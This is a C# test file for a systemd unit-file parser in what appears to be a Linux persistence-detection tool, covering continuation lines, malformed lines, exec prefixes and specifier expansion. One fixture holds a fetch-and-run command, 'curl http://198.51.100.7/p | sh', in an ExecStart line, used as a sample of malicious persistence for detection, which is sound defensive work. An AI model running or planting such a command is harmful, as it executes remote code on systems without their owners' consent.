using Atalaya.Platform.Linux.Persistence;

namespace Atalaya.Platform.Linux.Tests.Persistence;

public sealed class SystemdUnitParserTests
{
    // This machine's /usr/lib/systemd/system/getty@.service, trimmed.
    private const string Getty = """
        #  SPDX-License-Identifier: LGPL-2.1-or-later
        [Unit]
        Description=Getty on %I
        After=rc-local.service

        [Service]
        # the VT is cleared by TTYVTDisallocate
        ExecStart=-/sbin/agetty -o '-p -- \\u' --noclear - $TERM
        Type=idle
        UtmpIdentifier=%I

        [Install]
        WantedBy=getty.target
        DefaultInstance=tty1
        """;

    [Fact]
    public void Parses_a_real_unit()
    {
        var settings = SystemdUnitParser.Parse(Getty, out var malformed);
        Assert.Equal(0, malformed);
        Assert.Equal("Getty on %I", SystemdUnitParser.Value(settings, "Unit", "Description"));
        Assert.Equal("-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM", SystemdUnitParser.Value(settings, "Service", "ExecStart"));
        Assert.Equal("getty.target", SystemdUnitParser.Value(settings, "Install", "WantedBy"));
        Assert.Null(SystemdUnitParser.Value(settings, "Service", "User"));
        var exec = settings.Single(s => s.Key == "ExecStart");
        Assert.Equal(8, exec.Line);
        Assert.Equal("/sbin/agetty", CommandTarget.Find(SystemdUnitParser.StripExecPrefixes(exec.Value)));
    }

    [Fact]
    public void Joins_continuation_lines_and_resets_lists_on_empty_assignment()
    {
        const string text = "[Service]\nExecStart=/usr/bin/vendor\nExecStart=\nExecStart=/bin/sh -c \\\n  'curl http://198.51.100.7/p | sh'\n; comment\nUser = nobody\n";
        var settings = SystemdUnitParser.Parse(text, out var malformed);
        Assert.Equal(0, malformed);
        var exec = SystemdUnitParser.Values(settings, "Service", "ExecStart");
        Assert.Equal(["/bin/sh -c    'curl http://198.51.100.7/p | sh'"], exec);
        Assert.Equal("nobody", SystemdUnitParser.Value(settings, "Service", "User"));
        Assert.Equal("curl", CommandTarget.Find(exec[0]));
    }

    [Theory]
    [InlineData("no equals sign")]
    [InlineData("[Unclosed")]
    [InlineData("=value without key")]
    [InlineData("[]")]
    public void Counts_malformed_lines(string line)
    {
        var settings = SystemdUnitParser.Parse("[Service]\n" + line + "\nExecStart=/bin/true\n", out var malformed);
        Assert.Equal(1, malformed);
        Assert.Equal("/bin/true", SystemdUnitParser.Value(settings, "Service", "ExecStart"));
    }

    [Theory]
    [InlineData("-/usr/bin/x", "/usr/bin/x")]
    [InlineData("@/usr/bin/x argv0 -a", "/usr/bin/x argv0 -a")]
    [InlineData("+!!/usr/bin/x", "/usr/bin/x")]
    [InlineData(":-/usr/bin/x", "/usr/bin/x")]
    public void Strips_exec_prefixes(string value, string expected) =>
        Assert.Equal(expected, SystemdUnitParser.StripExecPrefixes(value));

    [Theory]
    [InlineData("%h/.local/bin/agent", "/home/ana/.local/bin/agent")]
    [InlineData("/usr/bin/x --unit %n --inst %i --prefix %p --N %N", "/usr/bin/x --unit sync@tty1.service --inst tty1 --prefix sync --N sync@tty1")]
    [InlineData("%t/x %u %U 100%%", "/run/user/1000/x ana 1000 100%")]
    [InlineData("%Z unknown %", "%Z unknown %")]
    public void Expands_specifiers(string value, string expected)
    {
        var specifiers = new SystemdSpecifiers { UnitName = "sync@tty1.service", Home = "/home/ana", UserName = "ana", Uid = "1000", RuntimeDirectory = "/run/user/1000" };
        Assert.Equal(expected, specifiers.Expand(value));
    }
}
